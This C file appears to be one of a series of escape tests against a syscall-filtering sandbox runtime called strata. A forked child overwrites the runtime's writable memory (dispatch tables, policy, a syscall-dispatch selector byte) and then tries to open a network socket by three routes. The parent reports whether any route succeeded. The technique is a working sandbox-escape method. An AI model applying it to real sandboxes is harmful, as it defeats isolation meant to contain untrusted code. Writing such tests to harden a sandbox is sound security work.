/* Attack 3: wreck strata's own memory, then call out. strata-rt's writable
 * mappings (its .data/.bss and the anonymous mapping right after it) hold its
 * dispatch tables, the policy, and possibly the Syscall User Dispatch
 * selector byte, whose value 0 means "let every syscall through". A forked
 * child overwrites all of them (with zeros, then in a second child with
 * 0xff), and then tries socket(AF_INET) three ways: through the strata
 * gadget, with a `syscall` strata has not rewritten (jit_call: trapped, or
 * let through if the selector was hit) and through libc (a rewritten site jumping into wrecked strata).
 * The child reports each result through a pipe before trying the next
 * (strata may well crash it, or hang in its wrecked handler: the parent
 * kills it after 5 s of silence), using only the gadget, and the parent
 * judges.
 * Natively there is nothing to wreck; the libc gadget's socket succeeds. */
#include "attack.h"
#include <poll.h>
#include <signal.h>

struct report {
    int step;
    long res;
};

static void child(struct gadget g, int fd, unsigned char fill) {
    static struct mapping maps[512];
    int n = read_maps(maps, 512);
    uintptr_t rt_end = 0;
    for (int i = 0; i < n; i++)
        if (is_strata_rt(&maps[i]) && maps[i].end > rt_end)
            rt_end = maps[i].end;
    long bytes = 0;
    for (int i = 0; i < n; i++) {
        struct mapping *m = &maps[i];
        int rt_data = is_strata_rt(m) && strcmp(m->perms, "rw-p") == 0;
        int after = rt_end && m->start == rt_end && m->path[0] == 0 && strcmp(m->perms, "rw-p") == 0;
        if (!rt_data && !after)
            continue;
        for (volatile unsigned char *p = (unsigned char *)m->start; p < (unsigned char *)m->end; p++)
            *p = fill;
        bytes += m->end - m->start;
    }
    struct report r = {0, bytes};
    gadget_call(g.addr, SYS_write, fd, (long)&r, sizeof r, 0, 0, 0);
    r = (struct report){1, gadget_call(g.addr, SYS_socket, AF_INET, SOCK_STREAM, 0, 0, 0, 0)};
    gadget_call(g.addr, SYS_write, fd, (long)&r, sizeof r, 0, 0, 0);
    r = (struct report){2, jit_call(SYS_socket, AF_INET, SOCK_STREAM, 0, 0, 0, 0)};
    gadget_call(g.addr, SYS_write, fd, (long)&r, sizeof r, 0, 0, 0);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    r = (struct report){3, s < 0 ? -(long)errno : s};
    gadget_call(g.addr, SYS_write, fd, (long)&r, sizeof r, 0, 0, 0);
    gadget_call(g.addr, SYS_exit_group, 0, 0, 0, 0, 0, 0);
}

static int round_with(struct gadget g, unsigned char fill) {
    int p[2];
    if (pipe(p) != 0)
        setup_failed("pipe");
    pid_t pid = fork();
    if (pid < 0)
        setup_failed("fork");
    if (pid == 0) {
        close(p[0]);
        child(g, p[1], fill);
    }
    close(p[1]);
    static const char *steps[] = {"", "gadget socket(AF_INET)", "trapping syscall socket(AF_INET)", "libc socket(AF_INET)"};
    struct report r;
    int esc = 0, seen = 0;
    char what[160];
    int hung = 0;
    for (;;) {
        struct pollfd pfd = {.fd = p[0], .events = POLLIN};
        if (poll(&pfd, 1, 5000) == 0) {
            hung = 1;
            kill(pid, SIGKILL);
            break;
        }
        if (read(p[0], &r, sizeof r) != sizeof r)
            break;
        if (r.step == 0) {
            printf("child overwrote %ld bytes of strata-rt's writable memory with %#x%s\n", r.res, fill,
                   r.res ? "" : " (there is none: no strata here)");
            continue;
        }
        seen = r.step;
        snprintf(what, sizeof what, "after the overwrite (%#x): %s", fill, steps[r.step]);
        esc |= attempt(what, r.res);
    }
    close(p[0]);
    int status;
    waitpid(pid, &status, 0);
    if (hung)
        printf("child hung after step %d (killed after 5 s; nothing later was attempted)\n", seen);
    else if (WIFSIGNALED(status))
        printf("child died of signal %d after step %d (nothing later was attempted)\n", WTERMSIG(status), seen);
    else if (seen < 3)
        printf("child exited with %d after step %d\n", WEXITSTATUS(status), seen);
    return esc;
}

int main(void) {
    struct gadget g = find_gadget();
    jit_call(SYS_getpid, 0, 0, 0, 0, 0, 0); /* its page is made now, while strata is whole */
    int esc = round_with(g, 0x00);
    esc |= round_with(g, 0xff);
    return verdict(esc);
}
